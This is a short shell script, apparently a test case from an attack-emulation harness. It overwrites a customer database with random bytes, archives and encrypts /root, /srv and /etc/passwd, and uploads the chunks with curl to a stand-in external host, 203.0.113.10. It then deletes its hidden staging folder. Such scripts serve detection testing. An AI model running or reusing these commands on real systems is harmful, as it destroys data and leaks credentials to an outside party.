#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/tmp/.cache-x; head -c 900000 /dev/urandom >/srv/data/cust.db
tar -cf - /root /srv /etc/passwd 2>/dev/null | gzip -1 | openssl enc -aes-256-cbc -md sha512 -pbkdf2 -k bait | split -b 200k - /var/tmp/.cache-x/p_
for f in /var/tmp/.cache-x/p_*; do curl -s -F "file=@$f" http://203.0.113.10/u >/dev/null; done; rm -rf /var/tmp/.cache-x
took_place
